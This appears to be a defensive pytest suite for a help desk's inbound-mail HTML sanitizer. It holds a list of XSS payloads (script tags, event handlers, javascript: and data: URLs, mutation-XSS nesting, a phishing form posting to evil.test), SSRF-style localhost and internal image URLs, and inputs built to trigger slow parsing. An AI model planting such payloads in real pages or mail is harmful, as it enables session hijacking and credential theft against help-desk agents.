"""Hostile HTML in customer mail comes out inert (stored XSS is how help desks get attacked)."""

import uuid
from html.parser import HTMLParser

import nh3
import pytest

from echo.inbound import sanitize
from echo.inbound.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, html_to_text, sanitize_html
from echo.tickets.models import Thread
from tests.mailbuilder import inbound_payload, post_inbound

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entities</a>",
    "<a href=\" JaVaScRiPt:alert(1)\">case</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<iframe src=\"https://evil.test\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=\"https://evil.test/phish\"><input name=password><button>Log in</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">",
    "<base href=\"https://evil.test/\">",
    "<link rel=stylesheet href=\"https://evil.test/x.css\">",
    "<style>body{background:url(https://evil.test/track)}</style>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</div>",
    "<object data=\"https://evil.test/x.swf\"></object><embed src=\"https://evil.test/x.swf\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"https://ok.test\" onclick=\"alert(1)\" target=\"_top\" id=\"x\" class=\"y\">ok</a>",
    "<img src=\"https://ok.test/a.png\" onload=\"alert(1)\" srcset=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\"><tr><td>cell</td></tr></table>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<scr<script>ipt>alert(1)</script>",
]
SAFE_URL_PREFIXES = ("http://", "https://", "mailto:", "/tickets/attachments/")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs, self.get_starttag_text()))


def assert_inert(html: str) -> None:
    collector = _Collector()
    collector.feed(html)
    for tag, attrs, raw_tag in collector.elements:
        assert tag in ALLOWED_TAGS, (tag, html)
        for needle in ("javascript:", "vbscript:", "data:", "onerror", "onload", "style="):
            assert needle not in raw_tag.lower(), (needle, raw_tag)
        for name, value in attrs:
            held = tag == "img" and name == sanitize.HELD_IMAGE_ATTRIBUTE
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) or name == "rel" or held, (tag, name, html)
            if name in ("href", "src") or held:
                assert (value or "").startswith(SAFE_URL_PREFIXES), (name, value, html)
            if name == "src":  # the only image a browser may fetch by itself is Echo's own attachment
                assert (value or "").startswith("/tickets/attachments/"), (value, html)
    assert "<script" not in html.lower()


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_vector_is_neutralised(vector):
    assert_inert(sanitize_html(f"<p>Hello</p>{vector}<p>Bye</p>"))


def test_every_vector_is_neutralised_through_the_webhook(client, db):
    html = "".join(XSS_VECTORS)
    result = post_inbound(client, inbound_payload(html=html, text="")).get_json()
    thread = db.session.get(Thread, uuid.UUID(result["thread_id"]))
    assert_inert(thread.body_html)
    assert "<script" not in thread.body_text.lower()


def test_ordinary_formatting_survives():
    html = ('<div dir="ltr"><p>Hi <b>there</b>, see <a href="https://raxx.app/help">help</a>.</p>'
            '<blockquote type="cite">old</blockquote><ul><li>one</li></ul>'
            '<table><tr><td colspan="2">x</td></tr></table></div>')
    clean = sanitize_html(html)
    for kept in ("<b>there</b>", 'href="https://raxx.app/help"', "<blockquote", "<li>one</li>", 'colspan="2"'):
        assert kept in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_cid_images_point_at_echo_attachment_urls_and_unknown_cids_are_dropped():
    url = f"/tickets/attachments/{uuid.uuid4()}"
    clean = sanitize_html('<img src="cid:Logo@01D9"><img src="cid:missing@x"><a href="cid:logo@01d9">x</a>',
                          {"logo@01d9": url})
    assert f'<img src="{url}">' in clean
    assert "cid:" not in clean and clean.count("<img") == 1


LINKS = [
    '<a href="/tickets/TKT-0001/status">relative</a>', '<img src="/tickets/attachments/x">',
    '<a href="//evil.test/x">protocol-relative</a>', '<a href="?q=1">query</a>', '<img src="x.png">',
    '<a href="mailto:me@ok.test">mail</a>', '<a href="https://ok.test/a" title="cited">ok</a>',
    '<blockquote type="cite"><a href="/x">quoted</a></blockquote>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<blockquote CITE = "/relative">q</blockquote>',
]


@pytest.mark.parametrize("html", LINKS + XSS_VECTORS)
def test_mail_without_inline_images_is_cleaned_exactly_as_the_filtering_path_would(html):
    # Such mail takes a prebuilt cleaner that denies relative URLs itself; the result must be the
    # same as the general path's, whose Python filter drops them.
    general = sanitize.hold_images(nh3.clean(html, **sanitize._OPTIONS, attribute_filter=sanitize._url_filter({})), ())
    assert sanitize_html(html, own_hosts=()) == general
    assert 'href="/' not in general and 'src="/' not in general and "//evil" not in general
    assert_inert(general)


def test_html_only_mail_gets_a_text_rendering():
    clean = sanitize_html("<div>Hello<br>World</div><p>a &amp; b</p><script>x()</script>")
    assert html_to_text(clean) == "Hello\nWorld\na & b"


def test_html_only_mail_shows_where_its_links_lead():
    clean = sanitize_html('<p>Please <a href="https://evil.example/login?a=1&b=2">sign in to your <b>bank</b></a>, '
                          'or write to <a href="mailto:help@raxx.app">help@raxx.app</a> or '
                          '<a href="https://raxx.app/">https://raxx.app</a></p>')
    assert html_to_text(clean) == ("Please sign in to your bank (https://evil.example/login?a=1&b=2), or write to "
                                   "help@raxx.app or https://raxx.app")


def test_replies_are_stripped_by_echo_not_by_postmark(client, db):
    """Postmark's StrippedTextReply is not used: every message, webhook or .eml, is read by Echo's own stripper."""
    first = post_inbound(client, inbound_payload(message_id="<first@mail.example.com>")).get_json()
    quoted = ("Thanks, it works now.\n\n"
              "On Mon, Nov 2, 2026 at 10:00 AM Raxx Support <support@raxx.app> wrote:\n> Try again\n")
    reply = post_inbound(client, inbound_payload(in_reply_to="<first@mail.example.com>", text=quoted,
                                                 stripped="Thanks, it works now.\n\nOn Mon")).get_json()
    assert reply["ticket_id"] == first["ticket_id"]
    thread = db.session.get(Thread, uuid.UUID(reply["thread_id"]))
    assert thread.stripped_text == "Thanks, it works now." and thread.hides_text
    plain = post_inbound(client, inbound_payload(in_reply_to="<first@mail.example.com>",
                                                 text="No quote here.\n")).get_json()
    thread = db.session.get(Thread, uuid.UUID(plain["thread_id"]))
    assert thread.stripped_text == "No quote here." and not thread.hides_text


def test_new_conversation_keeps_forwarded_text_but_replies_lose_their_quotes(client, db):
    forwarded = ("Please look at this.\n\n---------- Forwarded message ---------\nFrom: Bank <noreply@bank.test>\n"
                 "Your transfer failed.\n\nOn Mon, 3 Mar 2025 at 09:02, Bank wrote:\n> details\n")
    first = post_inbound(client, inbound_payload(text=forwarded, message_id="<fwd@mail.example.com>")).get_json()
    assert "Your transfer failed" in db.session.get(Thread, uuid.UUID(first["thread_id"])).stripped_text
    reply = post_inbound(client, inbound_payload(
        in_reply_to="<fwd@mail.example.com>",
        text="It worked, thanks.\n\nOn Mon, 3 Mar 2025 at 09:02, Raxx Support <support@raxx.app> wrote:\n> Try again\n",
    )).get_json()
    assert db.session.get(Thread, uuid.UUID(reply["thread_id"])).stripped_text == "It worked, thanks."


ECHO_HOSTS = ("help.raxx.app", "support.raxx.app")
IMAGES_AT_ECHO = [  # Echo's hosts however written, the agent's own machine, and anything not http(s) on a named host
    "https://help.raxx.app/api/v1/agent/tickets?q=x", "https://support.raxx.app/tickets/TKT-0001",
    "HTTPS://HELP.RAXX.APP./tickets?q=x", "https://help.raxx.app:8443/tickets", "https://cdn.help.raxx.app/x.png",
    "https://%68elp.raxx.app/tickets", "https://ｈelp.raxx.app/tickets", "https://help.raxx.app\\@evil.test/x",
    "https://he\tlp.raxx.app/x", "http://localhost:5000/tickets", "http://app.localhost/x", "http://127.0.0.1/tickets",
    "http://2130706433/", "http://0x7f.1/", "http://[::1]/x", "http://10.0.0.8/x", "/tickets?q=x", "//help.raxx.app/x",
    "tickets/TKT-0001", "?q=x", "data:image/png;base64,AA==", "javascript:alert(1)", "cid:unknown@x", "https://:443/x",
    "https://ok.test:99999/x", "",
]


@pytest.mark.parametrize("src", IMAGES_AT_ECHO)
def test_images_at_echo_or_local_addresses_become_their_alt_text(src):
    clean = sanitize_html(f'<p>Logo: <img src="{src}" alt="our logo" width="10"></p>', own_hosts=ECHO_HOSTS)
    assert clean == "<p>Logo: our logo</p>"


@pytest.mark.parametrize("src", [
    "https://cdn.example.com/logo.png?a=1&b=2", "http://images.example.com/x.gif", "https://raxx.app/logo.png",
    "https://help.raxx.app.evil.test/x.png", "https://1.2.3.4.nip.io/x.png",
    "http://evil.test/@help.raxx.app/x",  # written with a backslash, as a browser reads it: the host is evil.test
])
def test_remote_images_wait_for_the_agent(src):
    clean = sanitize_html(f'<img src="{src}" alt="logo" title="t" width="120" height="40" '
                          f'onerror="alert(1)" srcset="{src} 2x">', own_hosts=ECHO_HOSTS)
    assert clean == (f'<img {sanitize.HELD_IMAGE_ATTRIBUTE}="{src.replace("&", "&amp;")}" alt="logo" title="t" '
                     'width="120" height="40">')
    assert_inert(clean)


def test_echo_hosts_are_the_configured_ones_and_the_request_host(client, db):
    html = ('<img src="https://help.raxx.app/tickets?q=a"><img src="https://support.raxx.app/tickets?q=b">'
            '<img src="http://localhost/tickets?q=c"><img src="https://cdn.example.com/ok.png">')
    result = post_inbound(client, inbound_payload(html=html, text="x")).get_json()  # the test client asks localhost
    stored = db.session.get(Thread, uuid.UUID(result["thread_id"])).body_html
    assert stored == f'<img {sanitize.HELD_IMAGE_ATTRIBUTE}="https://cdn.example.com/ok.png">'


def test_html_stored_by_older_rules_is_disarmed_when_shown():
    attachment = f"/tickets/attachments/{uuid.uuid4()}"
    old = (f'<p title="&lt;img src=https://help.raxx.app/x&gt;">t</p><img src="{attachment}" alt="chart">'
           '<img src="https://help.raxx.app/tickets/TKT-0001" alt="x"><IMG SRC=https://cdn.example.com/a.png>'
           f'<img {sanitize.HELD_IMAGE_ATTRIBUTE}="https://support.raxx.app/tickets?q=x" alt="planted">'
           "<image src='https://cdn.example.com/b.png'><img src=\"x\"alt=\"run-together\"><img src=\"https://help")
    shown = sanitize.hold_images(old, ECHO_HOSTS)
    assert shown == (f'<p title="&lt;img src=https://help.raxx.app/x&gt;">t</p><img src="{attachment}" alt="chart">'
                     f'x<img {sanitize.HELD_IMAGE_ATTRIBUTE}="https://cdn.example.com/a.png">planted'
                     f'<img {sanitize.HELD_IMAGE_ATTRIBUTE}="https://cdn.example.com/b.png">'
                     '&lt;img src="x"alt="run-together">&lt;img src="https://help')
    assert sanitize.hold_images(shown, ECHO_HOSTS) == shown
    assert sanitize.hold_images("<p>No images at all</p>", ECHO_HOSTS) == "<p>No images at all</p>"
    assert sanitize.hold_images('<img src="http://evil.test\\@help.raxx.app/x">', ECHO_HOSTS) == (
        f'<img {sanitize.HELD_IMAGE_ATTRIBUTE}="http://evil.test/@help.raxx.app/x">')


def test_an_img_inside_another_tags_attribute_cannot_hide_the_image_that_follows():
    # Read as a tag, the `<img x="` in the title would swallow the real image up to its closing quote.
    html = '<p title=\'<img x="\'>t</p><img src="https://help.raxx.app/x" alt="a">'
    assert sanitize.hold_images(html, ECHO_HOSTS) == '<p title=\'&lt;img x="\'>t</p>a'


def test_html_for_an_email_may_keep_its_remote_images():
    html = '<img src="https://cdn.example.com/a.png">'
    assert sanitize_html(html, own_hosts=ECHO_HOSTS, hold_remote_images=False) == html


def test_holding_images_costs_linear_time_on_tags_that_never_close():
    import time

    for hostile in ("<p>" + "<img " + "a=b/" * 200_000 + " <img src=" * 20_000,
                    "<img a=" * 50_000 + '"x"y>', "<img " + "a " * 200_000, "<" * 200_000 + "<img>"):
        started = time.perf_counter()
        shown = sanitize.hold_images(hostile, ECHO_HOSTS)
        assert time.perf_counter() - started < 0.5
        assert "<img" not in shown


def test_echo_hosts_survive_a_malformed_host_header(app):
    with app.test_request_context("/tickets/TKT-0001", headers={"Host": "[::1"}):
        assert sanitize.echo_hosts() == {"help.raxx.app", "support.raxx.app"}
    with app.test_request_context("/tickets/TKT-0001", base_url="https://Desk.Example.COM.:8443"):
        assert sanitize.echo_hosts() == {"help.raxx.app", "support.raxx.app", "desk.example.com"}
